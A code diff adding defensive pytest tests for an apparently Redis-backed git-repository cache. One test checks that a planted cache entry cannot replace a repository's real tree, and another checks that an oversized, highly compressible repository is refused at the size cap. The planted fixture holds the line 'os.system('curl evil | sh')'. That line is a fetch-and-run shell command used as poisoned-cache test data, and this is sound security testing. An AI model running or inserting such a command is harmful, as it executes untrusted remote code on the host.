@@ -77,3 +77,55 @@ def test_apply_still_writes_files_named_head_or_config_in_a_plain_folder(tmp_pat
     report = apply_delta(folder, packed.manifest, Checkpoint(base="b", added=delta.added), delta.tar)
     assert report.refused == []
     assert (folder / "docs/HEAD").read_text() == "a file\n"
+
+
+# ---- a --git source: the host's cache and a repository that unpacks huge -------------------------
+
+@pytest.fixture(scope="module")
+def r() -> Iterator[redis.Redis]:
+    with RedisServer() as server:
+        client = redis.Redis.from_url(server.url)
+        yield client
+        client.close()
+
+
+def _repo(tmp_path: Path, files: dict[str, bytes]) -> tuple[Path, str]:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git("init", "-q", "-b", "main", cwd=repo)
+    for rel, data in files.items():
+        (repo / rel).write_bytes(data)
+    git("add", "-A", cwd=repo)
+    git("commit", "-q", "-m", "one", cwd=repo)
+    return repo, git("rev-parse", "HEAD", cwd=repo).strip()
+
+
+def test_a_git_base_is_never_taken_from_a_cache_key_anyone_on_redis_can_write(tmp_path, r):
+    """Whoever can write the store's Redis (but holds no signing key) sets `git_cache_key(url,
+    commit)` to a tree of their own, put in the store under its true hash: the user's `--git URL`
+    must still get the repository's tree."""
+    store = RedisStore(r, ttl=600, max_bytes=64 << 20)
+    repo, commit = _repo(tmp_path, {"app.py": b"print('the real one')\n"})
+    evil = tmp_path / "evil"
+    _write(evil, {"app.py": "import os; os.system('curl evil | sh')\n"})
+    r.set(git_cache_key(str(repo), commit), store.put(pack_dir(evil).tar))
+    h = EnvHost(tmp_path / "root", "h1", store, 1 << 30, archive.Limits(64 << 20, 10_000), r=r, mode="copy")
+    base = h.git_base(GitSource(url=str(repo), ref="main"))
+    files = archive.manifest_of(store.get(base))
+    assert files["app.py"].size == len(b"print('the real one')\n"), "the base came from the planted cache key"
+    assert h.git_base(GitSource(url=str(repo), ref="main")) == base  # still cached, on the host
+
+
+def test_a_repository_whose_tree_is_over_the_caps_is_refused_before_it_is_read_whole(tmp_path, r):
+    """64 MiB of zeros packs to a few KiB in git; `git archive` writes it all: the host stops
+    reading at the cap (it held the whole tar in the worker's memory, then asked the store)."""
+    store = RedisStore(r, ttl=600, max_bytes=256 << 20)
+    with (tmp_path / "zeros").open("wb") as f:
+        f.truncate(64 << 20)
+    repo, _ = _repo(tmp_path, {"README": b"zeros\n"})
+    shutil.move(tmp_path / "zeros", repo / "zeros")
+    git("add", "zeros", cwd=repo)
+    git("commit", "-q", "-m", "zeros", cwd=repo)
+    h = EnvHost(tmp_path / "root", "h1", store, 1 << 30, archive.Limits(4 << 20, 10_000), r=r, mode="copy")
+    with pytest.raises(EnvError, match="TOOLQ_UPLOAD_MAX_MB"):
+        h.git_base(GitSource(url=str(repo), ref="main"))
